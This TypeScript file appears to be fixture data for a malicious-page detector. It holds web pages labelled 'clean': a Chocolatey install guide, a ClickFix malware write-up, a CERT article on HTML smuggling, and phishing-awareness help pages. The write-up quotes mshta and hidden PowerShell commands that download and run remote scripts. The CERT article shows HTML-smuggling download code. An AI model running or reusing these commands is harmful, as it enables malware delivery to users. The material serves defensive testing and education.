import { type Entry, htmlRoute, redirectRoute } from '../entry.js';
import { zip, pe, cfb, iso, lnk, apk, crx, rar5, sevenZip, beepWav, fileRoute, jsRoute, jsonRoute, cssRoute } from '../parts/e-bin.js';
import { doc, baseCss, loginCss, tagStub, cookieBar, imgRoute, b64, xorB64, hexEsc, pack } from '../parts/zf-kit.js';

export const entries: Entry[] = [
{
  id: 'zf-clean-docs-chocolatey-setup',
  label: 'clean',
  kind: 'docs-scary-code',
  url: 'https://docs.chocolatey.org/en-us/choco/setup/?source=install-page',
  body: doc({
    title: 'Setup / Install | Chocolatey Software Docs',
    body: `<header><b>Chocolatey</b><nav><a href="#">Docs</a><a href="#">Packages</a><a href="#">Pricing</a></nav></header><main>
<h1>Installing Chocolatey</h1><p>Chocolatey installs in seconds. You are just a few steps from running choco right now!</p><ol><li>First, ensure that you are using an <b>administrative shell</b>.</li><li>Run <code>Get-ExecutionPolicy</code>. If it returns Restricted, then run <code>Set-ExecutionPolicy AllSigned</code> or <code>Set-ExecutionPolicy Bypass -Scope Process</code>.</li><li>Now run the following command:</li></ol>
<pre><code>Set-ExecutionPolicy Bypass -Scope Process -Force; [System.Net.ServicePointManager]::SecurityProtocol = [System.Net.ServicePointManager]::SecurityProtocol -bor 3072; iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))</code></pre>
<button class="btn" id="cp">Copy command</button>
<p>Paste the copied text into your shell and press Enter. Wait a few seconds for the command to complete. If you don't see any errors, you are ready to use Chocolatey! Type <code>choco</code> or <code>choco -?</code>.</p>
<h3>Why do I need to enable TLS 1.2?</h3><p>Chocolatey.org now requires TLS 1.2 at a minimum. Please see the blog post for details.</p></main>
<footer>© 2025 Chocolatey Software, Inc. · <a href="#">Privacy</a><a href="#">Terms</a></footer>
<script>document.getElementById('cp').onclick=function(){navigator.clipboard.writeText(document.querySelector('pre code').textContent);this.textContent='Copied!'}</script>`,
  }),
},
{
  id: 'zf-clean-writeup-clickfix-analysis',
  label: 'clean',
  kind: 'security-writeup',
  url: 'https://research.kestrelsec.io/blog/2025/11/clickfix-fake-captcha-wave/',
  body: doc({
    title: 'Fake CAPTCHA, real malware: inside the November ClickFix wave | Kestrel Security Research',
    body: `<header><b>Kestrel Security Research</b><nav><a href="#">Blog</a><a href="#">Threat Intel</a><a href="#">IOCs</a><a href="#">About</a></nav></header><main>
<p class="muted">By Priya Natarajan and Tomás Ferreira · 21 November 2025 · 11 min read</p><h1>Fake CAPTCHA, real malware: inside the November ClickFix wave</h1>
<p>Since early October we have tracked a cluster of compromised WordPress sites that inject a fake "Verify you are human" overlay. When the visitor clicks the checkbox, JavaScript silently writes a command to the clipboard and instructs the user to press <kbd>Win</kbd>+<kbd>R</kbd>, <kbd>Ctrl</kbd>+<kbd>V</kbd> and <kbd>Enter</kbd>.</p>
<h2>The clipboard payload</h2><p>The injected script (deobfuscated) looks like this:</p>
<pre><code>const cmd = 'mshta https://[redacted]/captcha.hta # ✅ I am not a robot - reCAPTCHA ID: 7721';
checkbox.addEventListener('click', () =&gt; {
  navigator.clipboard.writeText(cmd);
  showSteps(); // "Press Win+R, then Ctrl+V, then Enter"
});</code></pre>
<p>The trailing comment pushes the real command out of the visible portion of the Run dialog. In later variants the operators switched to PowerShell:</p>
<pre><code>powershell -w h -nop -c "iex(iwr 'hxxps://cdn-upd[.]example/v.ps1' -UseBasicParsing).Content"</code></pre>
<h2>Second stage</h2><p>The HTA launches an encoded PowerShell command that downloads Lumma Stealer. Indicators are listed below (defanged).</p>
<table border="1" cellpadding="6"><tr><th>Type</th><th>Indicator</th></tr><tr><td>Domain</td><td>cdn-upd[.]dentalcare-static[.]com</td></tr><tr><td>IP</td><td>91.210.107[.]4</td></tr><tr><td>SHA-256</td><td>3b1f…e9a2</td></tr></table>
<h2>Mitigations</h2><ul><li>Disable the Run dialog via GPO for users who do not need it.</li><li>Alert on <code>mshta.exe</code> with a URL argument and on <code>explorer.exe → powershell.exe</code> with <code>-w hidden</code>.</li><li>Train users: no legitimate CAPTCHA asks you to paste anything.</li></ul></main>
<footer>© 2025 Kestrel Security · <a href="#">RSS</a><a href="#">Mastodon</a></footer>`,
  }),
},
{
  id: 'zf-clean-writeup-html-smuggling-no',
  label: 'clean',
  kind: 'security-writeup',
  url: 'https://www.nordfjell-cert.no/artikler/html-smugling-forklart',
  body: doc({
    lang: 'nb',
    title: 'HTML-smugling forklart – Nordfjell CERT',
    body: `<header><b>Nordfjell CERT</b><nav><a href="#">Varsler</a><a href="#">Artikler</a><a href="#">Rapporter hendelse</a></nav></header><main>
<h1>HTML-smugling forklart</h1><p class="muted">Publisert 12.11.2025</p><p>HTML-smugling er en teknikk der skadevare bygges opp i nettleseren i stedet for å lastes ned direkte. Nettleseren setter sammen en fil fra base64-data i selve HTML-dokumentet, og e-postfiltre og proxyer ser aldri selve filen.</p>
<h2>Typisk kode</h2><pre><code>var data = atob('UEsDBBQAAAAIA...');
var bytes = new Uint8Array(data.length);
for (var i = 0; i &lt; data.length; i++) bytes[i] = data.charCodeAt(i);
var blob = new Blob([bytes], { type: 'application/octet-stream' });
var a = document.createElement('a');
a.href = URL.createObjectURL(blob);
a.download = 'Faktura.zip';
a.click();</code></pre>
<p>Vedlegget er ofte en HTML-fil med navn som «Faktura_2025.html» eller «Talemelding.htm». ZIP-filen inneholder gjerne en .lnk-, .js- eller .iso-fil.</p>
<h2>Anbefalinger</h2><ul><li>Blokker HTML-vedlegg i e-post der det er mulig.</li><li>Bruk Attack Surface Reduction-regler mot JavaScript og VBScript som starter nedlastet innhold.</li><li>Varsle oss på post@nordfjell-cert.no dersom dere observerer kampanjer.</li></ul></main>
<footer>Nordfjell CERT · <a href="#">Personvern</a></footer>`,
  }),
},
{
  id: 'zf-clean-help-microsoft-reset-password',
  label: 'clean',
  kind: 'help-article',
  url: 'https://support.microsoft.com/en-us/account-billing/how-to-reset-your-microsoft-account-password-eff4f067-5042-c1a3-fe72-b04d60556c37',
  body: doc({
    title: 'How to reset your Microsoft account password - Microsoft Support',
    body: `<header><b>Microsoft</b><nav><a href="#">Support</a><a href="#">Microsoft 365</a><a href="#">Windows</a><a href="#">Surface</a><a href="#">Sign in</a></nav></header><main>
<h1>How to reset your Microsoft account password</h1><p>If you've forgotten your password, you can reset it from the Microsoft account sign-in page.</p>
<ol><li>Go to <a href="https://account.live.com/password/reset">Reset your password</a>.</li><li>Enter the email address, phone number or Skype ID you use to sign in, then select <b>Next</b>.</li><li>We'll ask where you want to get your verification code. Select <b>Get code</b>.</li><li>Enter the code and select <b>Next</b>. Enter your new password.</li></ol>
<h2>Tips for a strong password</h2><ul><li>At least 12 characters; a passphrase is easier to remember.</li><li>Don't reuse passwords from other sites.</li><li>Consider going passwordless with the Microsoft Authenticator app.</li></ul>
<div class="card" style="max-width:none"><b>Important:</b> Microsoft will never ask for your password in an email or phone call, and we will never show a warning on a web page asking you to call a phone number. <a href="#">Learn how to protect yourself from tech support scams</a>.</div>
<p>Was this information helpful? <button>Yes</button> <button>No</button></p></main>
<footer>English (United States) · <a href="#">Contact Microsoft</a><a href="#">Privacy</a><a href="#">Terms of use</a> © Microsoft 2025</footer>`,
  }),
},
{
  id: 'zf-clean-help-university-phishing-de',
  label: 'clean',
  kind: 'help-article',
  url: 'https://www.rz.uni-greifenhagen.de/dienste/sicherheit/phishing-warnungen/',
  body: doc({
    lang: 'de',
    title: 'Aktuelle Phishing-Warnungen – Rechenzentrum der Universität Greifenhagen',
    body: `<header><b>Universität Greifenhagen · Rechenzentrum</b><nav><a href="#">Dienste</a><a href="#">E-Mail</a><a href="#">Service-Desk</a></nav></header><main>
<h1>Aktuelle Phishing-Warnungen</h1><p>Hier veröffentlichen wir Phishing-Mails, die an Angehörige der Universität verschickt wurden. Bitte geben Sie Ihr Uni-Passwort niemals auf fremden Seiten ein.</p>
<div class="card" style="max-width:none"><b>27.11.2025 – „Ihr Postfach ist voll“</b><pre>Betreff: Speicherplatz überschritten (1998 MB / 2000 MB)
Sehr geehrter Nutzer, Ihr Postfach hat das Speicherlimit überschritten.
Klicken Sie hier, um Ihr Kontingent zu erhöhen: hxxps://mail-quota-upgrade[.]webmail-support[.]net/roundcube/
Das IT-Team</pre><p>Diese Mail stammt <b>nicht</b> vom Rechenzentrum. Unser Webmail erreichen Sie ausschließlich unter webmail.uni-greifenhagen.de.</p></div>
<div class="card" style="max-width:none"><b>19.11.2025 – „Gehaltsanpassung 2026“ (DocuSign)</b><p>Gefälschte DocuSign-Benachrichtigung, die zur Eingabe von E-Mail und Passwort auffordert. Löschen Sie die Mail.</p></div>
<p>Haben Sie Ihre Daten eingegeben? Ändern Sie sofort Ihr Passwort im <a href="#">Identitätsmanagement</a> und melden Sie sich beim Service-Desk (Tel. 03834 86-1234).</p></main>
<footer><a href="#">Impressum</a><a href="#">Datenschutz</a><a href="#">Barrierefreiheit</a></footer>`,
  }),
},
{
  id: 'zf-clean-blog-strong-passwords-ja',
  label: 'clean',
  kind: 'help-article',
  url: 'https://blog.passkeeper.jp/articles/strong-password-guide-2025',
  body: doc({
    lang: 'ja',
    title: '安全なパスワードの作り方【2025年版】 | PassKeeper ブログ',
    body: `<header><b>PassKeeper</b><nav><a href="#">製品</a><a href="#">料金</a><a href="#">ブログ</a><a href="#">ログイン</a></nav></header><main>
<h1>安全なパスワードの作り方【2025年版】</h1><p class="muted">2025年11月10日 · セキュリティ</p><p>「パスワードを入力してください」「カード情報を確認してください」——こうしたメッセージを装ったフィッシング詐欺は年々巧妙になっています。まずは強いパスワードを作り、使い回さないことが基本です。</p>
<h2>1. 長さを優先する</h2><p>12文字以上、できれば4〜5個の単語をつなげたパスフレーズがおすすめです。例：<code>sakura-kaisen-tokei-mizu</code></p>
<h2>2. サービスごとに異なるパスワード</h2><p>一つのサイトから漏えいすると、同じパスワードを使っている他のサービスにも不正ログインされる恐れがあります。</p>
<h2>3. 二要素認証を有効に</h2><p>SMSよりも認証アプリやパスキーの方が安全です。ワンタイムコードを他人に教えてはいけません。</p>
<h2>4. フィッシングサイトに注意</h2><p>URLをよく確認しましょう。「rakuten-card.co.jp.e-navi-kakunin.top」のように、正規のドメイン名を先頭に含む偽サイトがあります。</p></main>
<footer>© PassKeeper株式会社 · <a href="#">プライバシーポリシー</a></footer>`,
  }),
},
];
